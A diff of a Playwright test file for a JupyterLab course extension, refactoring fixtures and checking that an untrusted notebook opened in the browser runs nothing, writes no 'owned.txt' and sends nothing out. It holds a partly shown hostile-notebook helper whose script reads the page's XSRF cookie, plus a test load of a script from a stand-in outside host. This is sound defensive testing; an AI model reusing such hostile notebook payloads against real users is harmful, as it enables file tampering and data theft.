@@ -53,11 +53,6 @@ def served(
         yield f"{url}/lab/tree", folder
 
 
-@pytest.fixture
-def lab(served: tuple[str, Path]) -> str:
-    return served[0]
-
-
 def _hostile() -> dict[str, Any]:
     """Return a notebook whose outputs, text and saved widget write a file or send one away, if they can."""
     script = """const headers = {"X-XSRFToken": document.cookie.match("_xsrf=([^;]*)")[1]};
@@ -102,11 +97,14 @@ def _hostile() -> dict[str, Any]:
     return {"cells": cells, "metadata": {"kernelspec": kernel, **saved}, "nbformat": 4, "nbformat_minor": 5}
 
 
-def _open(tab: Any, lab: str) -> None:
-    tab.open_notebook(lab, "live.ipynb")
-    tab.run_all()
-    tab.page.locator(".course-explorer .vega-embed svg").wait_for()
-    tab.page.wait_for_timeout(1500)
+@pytest.fixture(scope="module")
+def opened(served: tuple[str, Path], module_tab: Any) -> Any:
+    """One page with a notebook that runs; the first test finds it new, others open another in its place."""
+    module_tab.open_notebook(served[0], "live.ipynb")
+    module_tab.run_all()
+    module_tab.page.locator(".course-explorer .vega-embed svg").wait_for()
+    module_tab.page.wait_for_timeout(1500)
+    return module_tab
 
 
 def _stopped(page: Any) -> None:
@@ -117,9 +115,8 @@ def _stopped(page: Any) -> None:
     assert page.locator(".course-explorer > .widget-hbox[inert]").count() >= 2
 
 
-def test_jupyterlab_draws_and_saves_the_pictures(served: tuple[str, Path], tab: Any) -> None:
-    page, (lab, folder) = tab.page, served
-    _open(tab, lab)
+def test_jupyterlab_draws_and_saves_the_pictures(served: tuple[str, Path], opened: Any) -> None:
+    page, (_, folder) = opened.page, served
     page.locator(STILL).first.wait_for(state="attached")
     assert not page.locator(STILL).first.is_visible()
     page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
@@ -135,15 +132,14 @@ def test_jupyterlab_draws_and_saves_the_pictures(served: tuple[str, Path], tab: 
     assert set(still.data) == {MIME_SPEC, "image/png", "text/plain"} and MIME_SVG not in still.data
 
 
-def test_an_explorer_says_that_its_kernel_has_gone(lab: str, tab: Any) -> None:
-    page = tab.page
-    _open(tab, lab)
+def test_an_explorer_says_that_its_kernel_has_gone(opened: Any) -> None:
+    page = opened.page
     gone = page.locator(".course-explorer .course-gone")
     assert gone.inner_text() == "" and page.locator(".course-explorer [inert]").count() == 0
     kernel = "window.jupyterapp.shell.currentWidget.sessionContext"
     page.evaluate(f"async () => {{ await {kernel}.session.kernel.restart(); }}")
     _stopped(page)
-    tab.run_all()
+    opened.run_all()
     page.wait_for_function(
         "() => document.querySelector('.course-explorer .course-gone')?.textContent === ''"
         " && document.querySelector('.course-explorer .vega-embed svg')"
@@ -158,15 +154,15 @@ def _alive(page: Any) -> None:
     page.locator(".course-quick form").wait_for()
 
 
-def test_a_saved_lesson_shows_its_pictures_and_no_error(lab: str, tab: Any) -> None:
-    page = tab.page
-    tab.open_notebook(lab, "saved.ipynb")
-    tab.run_all()
+def test_a_saved_lesson_shows_its_pictures_and_no_error(served: tuple[str, Path], opened: Any) -> None:
+    page, (lab, _) = opened.page, served
+    opened.turn_to(lab, "saved.ipynb")
+    opened.run_all()
     _alive(page)
     page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
     page.wait_for_function("() => !window.jupyterapp.shell.currentWidget.context.model.dirty")
     # the page is loaded again, and the kernel goes on
-    tab.open_notebook(lab, "saved.ipynb")
+    opened.open_notebook(lab, "saved.ipynb")
     _alive(page)
     page.locator(".course-explorer select").first.select_option(label="Exports")
     page.locator(".course-explorer .course-sentence", has_text="Japan's exports of").wait_for()
@@ -174,25 +170,28 @@ def test_a_saved_lesson_shows_its_pictures_and_no_error(lab: str, tab: Any) -> N
     assert not any(one.is_visible() for one in still.all())
     # the next day: another kernel, which knows no widget
     page.evaluate("async () => { await window.jupyterapp.shell.currentWidget.sessionContext.shutdown(); }")
-    for size in ({"width": 1366, "height": 768}, {"width": 820, "height": 1180}):
+    page.set_viewport_size({"width": 820, "height": 1180})
+    opened.open_notebook(lab, "saved.ipynb")
+    missing = page.get_by_text(MISSING)
+    for size in ({"width": 820, "height": 1180}, {"width": 1366, "height": 768}):
         page.set_viewport_size(size)
-        tab.open_notebook(lab, "saved.ipynb")
-        missing = page.get_by_text(MISSING)
         missing.nth(2).wait_for(state="attached")
         still.nth(2).wait_for()
         assert still.count() == 3 and all(one.is_visible() for one in still.all())
         page.get_by_text("Error displaying widget").nth(2).wait_for(state="attached")
         assert not any(one.is_visible() for one in missing.all())
         assert page.locator(".course-explorer, .course-quick").count() == 0
-    tab.run_all()
+    opened.run_all()
     _alive(page)
     assert not any(one.is_visible() for one in still.all())
 
 
-def test_nothing_of_a_notebook_runs_or_is_sent_when_it_is_opened(served: tuple[str, Path], tab: Any) -> None:
-    page, (lab, folder) = tab.page, served
+def test_nothing_of_a_notebook_runs_or_is_sent_when_it_is_opened(
+    served: tuple[str, Path], opened: Any
+) -> None:
+    page, (lab, folder) = opened.page, served
     with page.expect_response("**/api/contents/secret.txt*"):  # the chart reads the file
-        tab.open_notebook(lab, "stranger.ipynb")
+        opened.turn_to(lab, "stranger.ipynb")
     page.locator(".vega-embed :is(canvas, svg)").first.wait_for()
     page.get_by_text("here", exact=True).wait_for()
     # a chart's menu writes no text of its author into a new page
@@ -200,8 +199,8 @@ def test_nothing_of_a_notebook_runs_or_is_sent_when_it_is_opened(served: tuple[s
     entries = page.locator(".vega-embed details").first.locator(".vega-actions a")
     shown = [one.inner_text() for one in entries.all() if one.is_visible()]
     assert entries.count() > len(shown) and shown == ["Save as SVG", "Save as PNG"]
-    tab.run_all()  # what happens when the notebook is opened has happened by now
-    assert not (folder / "owned.txt").exists() and tab.outside == []
+    opened.run_all()  # what happens when the notebook is opened has happened by now
+    assert not (folder / "owned.txt").exists() and opened.outside == []
     saved = "() => window.jupyterapp.shell.currentWidget.context.model.getMetadata('widgets') ?? null"
     assert page.evaluate(saved) is None
     # nor would a script of the page get more from there
@@ -210,4 +209,4 @@ def test_nothing_of_a_notebook_runs_or_is_sent_when_it_is_opened(served: tuple[s
         more.onerror = () => done(true);
         more.src = "http://elsewhere.example/more.js";
         document.head.append(more); })"""
-    assert page.evaluate(refused) and tab.outside == []
+    assert page.evaluate(refused) and opened.outside == []
